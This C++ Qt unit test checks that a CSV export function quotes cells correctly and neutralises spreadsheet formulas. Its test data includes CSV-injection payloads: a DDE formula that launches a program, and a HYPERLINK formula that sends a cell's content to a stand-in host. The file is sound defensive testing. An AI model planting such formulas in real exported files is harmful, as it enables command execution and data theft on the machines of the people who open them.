// SPDX-License-Identifier: GPL-3.0-or-later
#include "tests/support/test_program.h"
#include "widgets/views/csv_text.h"

#include <QAbstractTableModel>
#include <QObject>
#include <QTest>

namespace tst_views_csv_table {

using namespace Qt::StringLiterals;
using sandglass::widgets::csvText;

namespace {

constexpr int kOtherRole = Qt::UserRole + 1;

/// A table of texts; in kOtherRole each cell reads "other".
class Table final : public QAbstractTableModel
{
public:
    Table(QStringList headers, QList<QStringList> rows)
        : m_headers(std::move(headers))
        , m_rows(std::move(rows))
    {
    }
    int rowCount(const QModelIndex& parent = {}) const override
    {
        return parent.isValid() ? 0 : static_cast<int>(m_rows.size());
    }
    int columnCount(const QModelIndex& parent = {}) const override
    {
        return parent.isValid() ? 0 : static_cast<int>(m_headers.size());
    }
    QVariant data(const QModelIndex& index, int role) const override
    {
        if (role == kOtherRole) {
            return u"other"_s;
        }
        return role == Qt::DisplayRole ? QVariant(m_rows.at(index.row()).at(index.column()))
                                       : QVariant();
    }
    QVariant headerData(int section, Qt::Orientation /*orientation*/, int role) const override
    {
        if (role == Qt::AccessibleTextRole && section == 0 && !m_spoken.isEmpty()) {
            return m_spoken;
        }
        return role == Qt::DisplayRole ? QVariant(m_headers.at(section)) : QVariant();
    }
    /// Gives the first column an accessible title of its own.
    void setSpoken(const QString& title) { m_spoken = title; }

private:
    QString m_spoken;
    QStringList m_headers;
    QList<QStringList> m_rows;
};

/// Reads CSV as RFC 4180 defines it. Nothing for a text that breaks its rules.
QList<QStringList> readCsv(const QString& csv)
{
    QList<QStringList> lines;
    QStringList line;
    qsizetype at = 0;
    while (at < csv.size()) {
        QString cell;
        const bool quoted = csv.at(at) == u'"';
        for (at += quoted ? 1 : 0; at < csv.size(); ++at) {
            if (quoted && csv.at(at) == u'"') {
                if (csv.mid(at + 1, 1) != u"\""_s) {
                    break;
                }
                ++at; // a doubled quote means one quote
            } else if (!quoted && (csv.at(at) == u',' || csv.at(at) == u'\r')) {
                break;
            } else if (!quoted && (csv.at(at) == u'"' || csv.at(at) == u'\n')) {
                return {};
            }
            cell += csv.at(at);
        }
        at += quoted ? 1 : 0;
        line << cell;
        if (csv.mid(at, 1) == u","_s) {
            ++at;
        } else if (csv.mid(at, 2) == u"\r\n"_s) {
            at += 2;
            lines << std::exchange(line, {});
        } else {
            return {};
        }
    }
    return lines;
}

QString cellOf(const QString& text)
{
    return readCsv(csvText(Table({u"name"_s, u"next"_s}, {{text, u"x"_s}}))).value(1).value(0);
}

} // namespace

class TestCsvTable : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void aHostileCellComesBackAsItWas_data();
    void aHostileCellComesBackAsItWas();
    void aFormulaBecomesText_data();
    void aFormulaBecomesText();
    void aFormulaThatNeedsQuotesHasBoth();
    void headersAreMadeSafeLikeCells();
    void aTableWithoutRowsIsItsHeader();
    void aTitleNamesWhatTheWindowSaysElsewhere();
    void everyRowIsALineOfItsOwn();
    void theRoleThatIsAskedForIsWritten();
};

void TestCsvTable::aHostileCellComesBackAsItWas_data()
{
    QTest::addColumn<QString>("text");
    QTest::newRow("empty") << QString();
    QTest::newRow("comma") << u"a,b"_s;
    QTest::newRow("one quote") << u"\""_s;
    QTest::newRow("quotes and commas") << u"\",\",\"\""_s;
    QTest::newRow("line feed") << u"a\nb"_s;
    QTest::newRow("carriage return") << u"a\rb"_s;
    QTest::newRow("a whole line") << u"a\r\n\"b\",c"_s;
    QTest::newRow("only spaces") << u"  "_s;
    QTest::newRow("right to left override") << u"gpj.\u202Eexe"_s;
    QTest::newRow("Chinese") << u"过期"_s;
    QTest::newRow("outside the basic plane") << u"\U0001F4A3"_s;
    QTest::newRow("a formula sign inside") << u"a=b+c-d@e"_s;
    QTest::newRow("a real minus sign") << u"−5"_s;
    QTest::newRow("an apostrophe") << u"'x"_s;
    QTest::newRow("10 kB") << QString(10'240, u'"');
}

void TestCsvTable::aHostileCellComesBackAsItWas()
{
    QFETCH(QString, text);
    QCOMPARE(cellOf(text), text);
}

void TestCsvTable::aFormulaBecomesText_data()
{
    // as OWASP lists them: CSV Injection, and ASVS 5.0, 1.2.10
    QTest::addColumn<QString>("text");
    QTest::newRow("equals") << u"=1+1"_s;
    QTest::newRow("plus") << u"+1+1"_s;
    QTest::newRow("minus") << u"-1+1"_s;
    QTest::newRow("at") << u"@SUM(A1)"_s;
    QTest::newRow("tab") << u"\t=1"_s;
    QTest::newRow("carriage return") << u"\r=1"_s;
    QTest::newRow("line feed") << u"\n=1"_s;
    QTest::newRow("zero") << QString(QChar(u'\0')) + u"=1"_s;
    QTest::newRow("a program") << u"=cmd|' /C calc'!A0"_s;
    QTest::newRow("a link") << u"=HYPERLINK(\"http://x.example/?\"&A1,\"open\")"_s;
}

void TestCsvTable::aFormulaBecomesText()
{
    QFETCH(QString, text);
    QCOMPARE(cellOf(text), u'\'' + text);
}

void TestCsvTable::aFormulaThatNeedsQuotesHasBoth()
{
    const QString csv = csvText(Table({u"a"_s}, {{u"=\"x\",1"_s}}));
    QCOMPARE(csv, u"a\r\n\"'=\"\"x\"\",1\"\r\n"_s);
}

void TestCsvTable::headersAreMadeSafeLikeCells()
{
    const QString csv = csvText(Table({u"=a"_s, u"b,c"_s, u"d\"e"_s}, {}));
    QCOMPARE(readCsv(csv), (QList<QStringList>{{u"'=a"_s, u"b,c"_s, u"d\"e"_s}}));
}

void TestCsvTable::aTableWithoutRowsIsItsHeader()
{
    QCOMPARE(csvText(Table({u"a"_s, u"b"_s}, {})), u"a,b\r\n"_s);
}

// A file has no status bar that would name the time zone.
void TestCsvTable::aTitleNamesWhatTheWindowSaysElsewhere()
{
    Table table({u"Last change"_s, u"b"_s}, {});
    table.setSpoken(u"Last change · Europe/Berlin"_s);
    QCOMPARE(csvText(table), u"Last change · Europe/Berlin,b\r\n"_s);
}

void TestCsvTable::everyRowIsALineOfItsOwn()
{
    const QList<QStringList> rows{{u"1"_s, QString()}, {QString(), u"2\n"_s}, {u"3"_s, u"4"_s}};
    const QList<QStringList> read = readCsv(csvText(Table({u"a"_s, u"b"_s}, rows)));
    QCOMPARE(read.size(), 4);
    QCOMPARE(read.mid(1), rows);
}

void TestCsvTable::theRoleThatIsAskedForIsWritten()
{
    const Table table({u"a"_s}, {{u"shown"_s}});
    QCOMPARE(csvText(table, kOtherRole), u"a\r\nother\r\n"_s);
    QCOMPARE(csvText(table, Qt::UserRole + 7), u"a\r\n\r\n"_s);
}

SANDGLASS_TEST(TestCsvTable)
} // namespace tst_views_csv_table

#include "tst_views_csv_table.moc"
